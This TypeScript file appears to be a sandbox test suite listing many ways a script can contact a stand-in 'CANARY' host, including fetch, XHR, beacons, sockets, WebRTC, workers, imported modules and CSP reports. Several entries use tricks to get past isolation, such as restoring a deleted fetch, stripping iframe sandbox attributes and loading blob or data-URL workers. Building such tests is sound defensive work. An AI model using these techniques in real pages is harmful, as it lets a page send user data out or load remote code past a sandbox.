import type { EscapeCase } from './case.ts';

/** A worker's text, started from a blob. */
const worker = (text: string): string =>
  `const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(text)}], { type: "text/javascript" }))); await new Promise((y) => { w.onmessage = (e) => y(take(e.data)); w.onerror = () => y(take("refused")); setTimeout(y, 600) })`;

/** Sending by code. */
export const networkCases: readonly EscapeCase[] = [
  { name: 'fetch', script: 'await fetch("CANARY/fetch?d=x", { mode: "no-cors" })' },
  {
    name: 'fetch of a Request',
    script: 'await fetch(new Request("CANARY/request", { method: "POST", body: "x", mode: "no-cors" }))',
  },
  {
    name: 'fetch that outlives the page',
    script:
      'fetch("CANARY/keepalive", { keepalive: true, method: "POST", body: "x" }).catch(() => 0); try { fetchLater("CANARY/later", { activateAfter: 0 }) } catch {}',
  },
  {
    name: 'fetch recovered from its bound copy',
    script:
      'await Window.prototype.fetch?.call(window, "CANARY/a"); await Reflect.getPrototypeOf(window).fetch?.("CANARY/b"); delete window.fetch; await window.fetch("CANARY/c")',
  },
  {
    name: 'XMLHttpRequest',
    script: 'const x = new XMLHttpRequest(); x.open("POST", "CANARY/xhr"); x.send("x")',
  },
  {
    name: 'XMLHttpRequest without waiting',
    script: 'const x = new XMLHttpRequest(); x.open("GET", "CANARY/sync", false); x.send()',
  },
  {
    name: 'beacon',
    script:
      'navigator.sendBeacon("CANARY/beacon", "x"); Navigator.prototype.sendBeacon.call(navigator, "CANARY/beacon2", "x")',
  },
  { name: 'WebSocket', script: 'new WebSocket("WS/socket")' },
  { name: 'EventSource', script: 'new EventSource("CANARY/events")' },
  { name: 'WebTransport', script: 'take(typeof WebTransport); new WebTransport("https://canary.test:1/")' },
  {
    name: 'peer connection',
    script:
      'const p = new RTCPeerConnection({ iceServers: [{ urls: "STUN" }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer())',
  },
  {
    name: 'peer connection of a frame with its own document',
    body: "<iframe srcdoc=\"<script>const p = new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))</script>\"></iframe>",
  },
  {
    name: 'peer connection of a frame made by code',
    script:
      'const f = document.createElement("iframe"); f.sandbox = "allow-scripts"; f.setAttribute("sandbox", "allow-scripts"); f.removeAttribute("sandbox"); f.sandbox.add("allow-scripts"); f.srcdoc = "<script>const p = new RTCPeerConnection({ iceServers: [{ urls: \'STUN\' }] }); p.createDataChannel(\'x\'); p.createOffer().then((o) => p.setLocalDescription(o))<\\/script>"; document.body.append(f)',
  },
  {
    name: 'peer connection of a frame that came as markup',
    script:
      'const m = "<iframe srcdoc=\\"<script>const p = new RTCPeerConnection({ iceServers: [{ urls: \'STUN\' }] }); p.createDataChannel(\'x\'); p.createOffer().then((o) => p.setLocalDescription(o))<\\/script>\\"></iframe>"; document.body.insertAdjacentHTML("beforeend", m); const d = document.createElement("div"); d.setHTMLUnsafe?.(m); document.body.append(d); document.body.append(document.createRange().createContextualFragment(m)); document.body.append(document.adoptNode(new DOMParser().parseFromString(m, "text/html").body.firstChild)); document.write(m)',
  },
  {
    name: 'peer connection of a frame in a shadow root',
    body: '<div><template shadowrootmode="closed"><iframe srcdoc="<script>const p = new RTCPeerConnection({ iceServers: [{ urls: \'STUN\' }] }); p.createDataChannel(\'x\'); p.createOffer().then((o) => p.setLocalDescription(o))</script>"></iframe></template></div>',
    script:
      'const r = document.body.appendChild(document.createElement("div")).attachShadow({ mode: "closed" }); const x = new DOMParser().parseFromString("<iframe xmlns=\\"http://www.w3.org/1999/xhtml\\" srcdoc=\\"&lt;script>const p = new RTCPeerConnection({ iceServers: [{ urls: \'STUN\' }] }); p.createDataChannel(\'x\'); p.createOffer().then((o) => p.setLocalDescription(o))&lt;/script>\\"/>", "application/xhtml+xml"); r.append(document.importNode(x.documentElement, true))',
  },
  {
    name: 'peer connection of a document fetched as one',
    script:
      'await new Promise((y) => { const x = new XMLHttpRequest(); x.open("GET", URL.createObjectURL(new Blob(["<iframe srcdoc=\\"<script>const p = new RTCPeerConnection({ iceServers: [{ urls: \'STUN\' }] }); p.createDataChannel(\'x\'); p.createOffer().then((o) => p.setLocalDescription(o))<\\/script>\\"></iframe><link rel=preconnect href=CANARY>"], { type: "text/html" }))); x.responseType = "document"; x.onloadend = () => { document.body.append(...x.response.body.childNodes, ...x.response.head.childNodes); y() }; x.send() })',
  },
  {
    name: 'worker',
    script: worker(
      'fetch("CANARY/worker", { mode: "no-cors" }).then(() => postMessage("sent"), (e) => postMessage("refused"))',
    ),
  },
  {
    name: 'worker that imports',
    script: worker(
      'try { importScripts("CANARY/import.js"); postMessage("sent") } catch (e) { postMessage("refused") }',
    ),
  },
  {
    name: 'worker with a socket',
    script: worker(
      'try { const s = new WebSocket("WS/worker"); s.onopen = () => postMessage("sent"); s.onerror = () => postMessage("refused") } catch (e) { postMessage("refused") }',
    ),
  },
  {
    name: 'worker of a worker',
    script: worker(
      'const w = new Worker(URL.createObjectURL(new Blob([`fetch("CANARY/inner")`]))); setTimeout(() => postMessage("done"), 300)',
    ),
  },
  {
    name: 'worker from a data address',
    script:
      'const w = new Worker("data:text/javascript,fetch(%22CANARY/data-worker%22)"); await new Promise((y) => setTimeout(y, 300))',
  },
  {
    name: 'worker from outside',
    script: 'new Worker("CANARY/worker.js"); new SharedWorker("CANARY/shared.js")',
  },
  { name: 'service worker', script: 'await navigator.serviceWorker.register("CANARY/sw.js")' },
  {
    name: 'service worker from a blob',
    script:
      'await navigator.serviceWorker.register(URL.createObjectURL(new Blob(["fetch(\\"CANARY/sw\\")"], { type: "text/javascript" })))',
  },
  {
    name: 'worklets',
    script:
      'await Promise.allSettled([CSS.paintWorklet?.addModule("CANARY/paint.js"), new AudioContext().audioWorklet?.addModule("CANARY/audio.js")])',
  },
  { name: 'module from outside', script: 'await import("CANARY/module.js")' },
  {
    name: 'module of a module',
    head: '<script type="module">import "./app.js"</script>',
    files: { 'app.js': 'import("CANARY/module-of-module.js").catch(() => window.take("refused"))' },
  },
  {
    name: 'import map',
    head: '<script type="importmap">{"imports":{"x":"CANARY/mapped.js"}}</script>',
    script: 'await import("x")',
  },
  {
    name: 'WebAssembly from outside',
    script: 'await WebAssembly.instantiateStreaming(window.fetch("CANARY/a.wasm"))',
  },
  {
    name: 'payment',
    script:
      'await new PaymentRequest([{ supportedMethods: "CANARY/pay" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()',
  },
  {
    name: 'reports',
    head: '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri CANARY/report"><meta http-equiv="Content-Security-Policy-Report-Only" content="default-src \'none\'; report-uri CANARY/report2">',
    body: '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  },
];
